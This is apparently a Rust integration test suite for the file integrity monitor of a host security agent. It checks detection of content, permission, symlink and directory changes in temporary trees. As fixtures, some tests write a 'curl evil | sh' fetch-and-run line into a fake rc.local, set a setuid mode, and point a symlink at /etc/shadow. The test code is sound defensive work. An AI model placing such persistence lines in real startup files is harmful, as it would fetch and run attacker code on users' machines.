//! File integrity against real files and real inotify, in temporary trees.

use picket_event::Event;
use picket_hostsrc::fim::{FimConfig, FimSource};
use picket_hostsrc::{Counters, Source};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

fn config(root: &Path) -> FimConfig {
    FimConfig {
        paths: vec![root.to_path_buf()],
        ignore: vec!["**/*.tmp".into(), "**/skipme".into()],
        debounce_ms: 50,
        // Only the package-run test names one, so that its fake run affects no other test.
        package_managers: Vec::new(),
        full_check_interval: 0,
        ..FimConfig::default()
    }
}

fn start(root: &Path, state: &Path) -> FimSource {
    FimSource::start(
        config(root),
        Some(state.to_path_buf()),
        Arc::new(Counters::default()),
    )
    .expect("start fim")
}

/// Poll until `want` events with an `action` of added/removed/modified/package_run arrived
/// or `limit` passed; return them all.
fn poll_for(fim: &mut FimSource, want: usize, limit: Duration) -> Vec<Event> {
    let deadline = Instant::now() + limit;
    let mut out = Vec::new();
    while Instant::now() < deadline {
        fim.poll(Duration::from_millis(100), &mut out)
            .expect("poll");
        let n = out.iter().filter(|e| is_change(e)).count();
        if n >= want {
            break;
        }
    }
    out.retain(is_change);
    out
}

fn is_change(e: &Event) -> bool {
    matches!(
        e.body["action"].as_str(),
        Some("added" | "removed" | "modified" | "package_run")
    )
}

fn find<'a>(events: &'a [Event], path: &Path, action: &str) -> &'a Event {
    let path = path.to_string_lossy();
    events
        .iter()
        .find(|e| e.body["path"] == *path && e.body["action"] == action)
        .unwrap_or_else(|| panic!("no {action} event for {path} in {events:#?}"))
}

fn tree() -> (tempfile::TempDir, PathBuf, PathBuf) {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("watched");
    std::fs::create_dir_all(root.join("etc/sub")).expect("mkdir");
    std::fs::write(root.join("etc/rc.local"), b"#!/bin/sh\n").expect("write");
    std::fs::write(root.join("etc/sub/conf"), b"a=1\n").expect("write");
    std::os::unix::fs::symlink("rc.local", root.join("etc/link")).expect("symlink");
    let state = dir.path().join("state/fim.db");
    (dir, root, state)
}

#[test]
fn baseline_event_counts_the_tree() {
    let (_dir, root, state) = tree();
    let mut fim = start(&root, &state);
    let mut out = Vec::new();
    fim.poll(Duration::ZERO, &mut out).expect("poll");
    assert_eq!(out[0].event_type, "fim");
    assert_eq!(out[0].body["action"], "baseline");
    // watched, etc, etc/link, etc/rc.local, etc/sub, etc/sub/conf
    assert_eq!(out[0].body["entries"], 6);
    assert_eq!(out[0].body["hashed"], 2);
}

#[test]
fn realtime_content_change_is_seen_within_a_second_with_hashes() {
    let (_dir, root, state) = tree();
    let mut fim = start(&root, &state);
    let _ = poll_for(&mut fim, 0, Duration::ZERO);
    let target = root.join("etc/rc.local");
    let written = Instant::now();
    std::fs::write(&target, b"#!/bin/sh\ncurl evil | sh\n").expect("write");
    let events = poll_for(&mut fim, 1, Duration::from_secs(3));
    let latency = written.elapsed();
    let e = find(&events, &target, "modified");
    assert!(latency < Duration::from_secs(1), "took {latency:?}");
    println!("inotify change seen after {latency:?}");
    assert_eq!(e.body["changed"], serde_json::json!(["content"]));
    let before = e.body["before"]["blake3_128"]
        .as_str()
        .expect("before hash");
    let after = e.body["after"]["blake3_128"].as_str().expect("after hash");
    assert_ne!(before, after);
    assert_eq!(after.len(), 32);
    assert_eq!(
        after,
        &blake3::hash(b"#!/bin/sh\ncurl evil | sh\n").to_hex()[..32]
    );
}

#[test]
fn add_delete_mode_and_type_changes_are_reported() {
    let (_dir, root, state) = tree();
    let mut fim = start(&root, &state);
    let _ = poll_for(&mut fim, 0, Duration::ZERO);
    let added = root.join("etc/new.sh");
    std::fs::write(&added, b"echo hi\n").expect("write");
    std::fs::remove_file(root.join("etc/sub/conf")).expect("rm");
    std::fs::set_permissions(
        root.join("etc/rc.local"),
        std::fs::Permissions::from_mode(0o4755),
    )
    .expect("chmod");
    // The symlink becomes a regular file: a change of type.
    std::fs::remove_file(root.join("etc/link")).expect("rm link");
    std::fs::write(root.join("etc/link"), b"now a file\n").expect("write");
    let events = poll_for(&mut fim, 4, Duration::from_secs(3));
    let e = find(&events, &added, "added");
    assert_eq!(e.body["type"], "file");
    assert!(e.body["after"]["blake3_128"].is_string());
    let e = find(&events, &root.join("etc/sub/conf"), "removed");
    assert_eq!(e.body["before"]["mode"], "0644");
    let e = find(&events, &root.join("etc/rc.local"), "modified");
    assert_eq!(e.body["changed"], serde_json::json!(["mode"]));
    assert_eq!(e.body["after"]["mode"], "4755");
    let e = find(&events, &root.join("etc/link"), "modified");
    assert_eq!(e.body["changed"][0], "type");
    assert_eq!(e.body["before"]["type"], "symlink");
    assert_eq!(e.body["before"]["target"], "rc.local");
    assert_eq!(e.body["after"]["type"], "file");
}

#[test]
fn symlink_retarget_is_a_target_change() {
    let (_dir, root, state) = tree();
    let mut fim = start(&root, &state);
    let _ = poll_for(&mut fim, 0, Duration::ZERO);
    let link = root.join("etc/link");
    let tmp = root.join("etc/link2");
    std::os::unix::fs::symlink("/etc/shadow", &tmp).expect("symlink");
    std::fs::rename(&tmp, &link).expect("rename over");
    let events = poll_for(&mut fim, 2, Duration::from_secs(3));
    let e = find(&events, &link, "modified");
    assert_eq!(e.body["changed"], serde_json::json!(["target"]));
    assert_eq!(e.body["after"]["target"], "/etc/shadow");
}

#[test]
fn new_directory_with_files_and_ignored_paths() {
    let (_dir, root, state) = tree();
    let mut fim = start(&root, &state);
    let _ = poll_for(&mut fim, 0, Duration::ZERO);
    let dir = root.join("etc/newdir/deeper");
    std::fs::create_dir_all(&dir).expect("mkdir");
    std::fs::write(dir.join("payload"), b"x").expect("write");
    std::fs::write(root.join("etc/editor.tmp"), b"ignored").expect("write");
    std::fs::create_dir_all(root.join("etc/skipme")).expect("mkdir");
    std::fs::write(root.join("etc/skipme/inner"), b"ignored").expect("write");
    let events = poll_for(&mut fim, 3, Duration::from_secs(3));
    find(&events, &dir.join("payload"), "added");
    find(&events, &dir, "added");
    assert!(
        !events.iter().any(|e| {
            let p = e.body["path"].as_str().unwrap_or("");
            p.ends_with(".tmp") || p.contains("skipme")
        }),
        "{events:#?}"
    );
    // A file written into the new directory later is seen through its new watch.
    std::fs::write(dir.join("second"), b"y").expect("write");
    let events = poll_for(&mut fim, 1, Duration::from_secs(3));
    find(&events, &dir.join("second"), "added");
}

#[test]
fn removed_directory_reports_its_contents() {
    let (_dir, root, state) = tree();
    let mut fim = start(&root, &state);
    let _ = poll_for(&mut fim, 0, Duration::ZERO);
    std::fs::remove_dir_all(root.join("etc/sub")).expect("rm -r");
    let events = poll_for(&mut fim, 2, Duration::from_secs(3));
    find(&events, &root.join("etc/sub/conf"), "removed");
    find(&events, &root.join("etc/sub"), "removed");
}

#[test]
fn changes_while_stopped_are_found_by_the_check_at_start() {
    let (_dir, root, state) = tree();
    drop(start(&root, &state));
    std::fs::write(root.join("etc/rc.local"), b"changed while down\n").expect("write");
    std::fs::write(root.join("etc/dropped"), b"new\n").expect("write");
    std::fs::remove_file(root.join("etc/sub/conf")).expect("rm");
    let mut fim = start(&root, &state);
    let mut out = Vec::new();
    fim.poll(Duration::ZERO, &mut out).expect("poll");
    find(&out, &root.join("etc/rc.local"), "modified");
    find(&out, &root.join("etc/dropped"), "added");
    find(&out, &root.join("etc/sub/conf"), "removed");
    let summary = out
        .iter()
        .find(|e| e.body["action"] == "check")
        .expect("check summary");
    assert_eq!(summary.body["modified"], 1);
    assert_eq!(summary.body["added"], 1);
    assert_eq!(summary.body["removed"], 1);
    drop(fim);
    // Nothing changed since: a third start reports nothing.
    let mut fim = start(&root, &state);
    let mut out = Vec::new();
    fim.poll(Duration::ZERO, &mut out).expect("poll");
    assert!(!out.iter().any(is_change), "{out:#?}");
}

#[test]
fn changes_during_a_package_manager_run_become_one_summary() {
    let (dir, root, state) = tree();
    let mut fim = FimSource::start(
        FimConfig {
            package_managers: vec!["picketfakepkg".into()],
            ..config(&root)
        },
        Some(state),
        Arc::new(Counters::default()),
    )
    .expect("start fim");
    let _ = poll_for(&mut fim, 0, Duration::ZERO);
    // A process named like a package manager (its comm is the executable's name).
    let fake = dir.path().join("picketfakepkg");
    std::fs::copy("/bin/sleep", &fake).expect("copy sleep");
    let mut child = std::process::Command::new(&fake)
        .arg("30")
        .spawn()
        .expect("spawn fake package manager");
    for i in 0..25 {
        std::fs::write(root.join(format!("etc/pkgfile{i}")), b"from a package\n").expect("write");
    }
    let mut out = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(2);
    while Instant::now() < deadline {
        fim.poll(Duration::from_millis(100), &mut out)
            .expect("poll");
    }
    assert!(
        !out.iter().any(is_change),
        "no event while it runs: {out:#?}"
    );
    child.kill().expect("kill");
    child.wait().expect("wait");
    let events = poll_for(&mut fim, 1, Duration::from_secs(3));
    assert_eq!(events.len(), 1, "{events:#?}");
    let e = &events[0];
    assert_eq!(e.body["action"], "package_run");
    assert_eq!(e.body["changes"], 25);
    assert_eq!(e.body["added"], 25);
    assert_eq!(
        e.body["package_managers"],
        serde_json::json!(["picketfakepkg"])
    );
    assert_eq!(e.body["sample_paths"].as_array().map(Vec::len), Some(10));
}

#[test]
fn baseline_holds_ten_thousand_files_in_little_memory() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("many");
    for d in 0..100 {
        let sub = root.join(format!("dir{d:03}"));
        std::fs::create_dir_all(&sub).expect("mkdir");
        for f in 0..100 {
            std::fs::write(sub.join(format!("file{f:03}.conf")), format!("{d} {f}\n"))
                .expect("write");
        }
    }
    let fim = FimSource::start(
        FimConfig {
            paths: vec![root],
            realtime: false,
            ..FimConfig::default()
        },
        None,
        Arc::new(Counters::default()),
    )
    .expect("start");
    let baseline = fim.baseline();
    assert_eq!(baseline.len(), 10_101);
    // About 56 bytes per entry plus its path: well under 2 MB.
    assert!(
        baseline.heap_bytes() < 2 << 20,
        "{} bytes",
        baseline.heap_bytes()
    );
}

#[test]
fn a_tree_under_root_is_reported_as_if_root_were_slash() {
    let (dir, root, state) = tree();
    let mut fim = FimSource::start(
        FimConfig {
            paths: vec![PathBuf::from("/etc")],
            ignore: vec!["/etc/sub".into()],
            root: Some(root.clone()),
            ..config(&root)
        },
        Some(state),
        Arc::new(Counters::default()),
    )
    .expect("start fim");
    let _ = poll_for(&mut fim, 0, Duration::ZERO);
    std::fs::write(root.join("etc/rc.local"), b"#!/bin/sh\ncurl evil | sh\n").expect("write");
    std::fs::write(root.join("etc/sub/conf"), b"a=2\n").expect("write");
    let events = poll_for(&mut fim, 1, Duration::from_secs(5));
    find(&events, Path::new("/etc/rc.local"), "modified");
    assert!(
        !events.iter().any(|e| e.body["path"]
            .as_str()
            .is_some_and(|p| p.contains("sub") || p.starts_with(&*dir.path().to_string_lossy()))),
        "ignored or unstripped path reported: {events:#?}"
    );
}
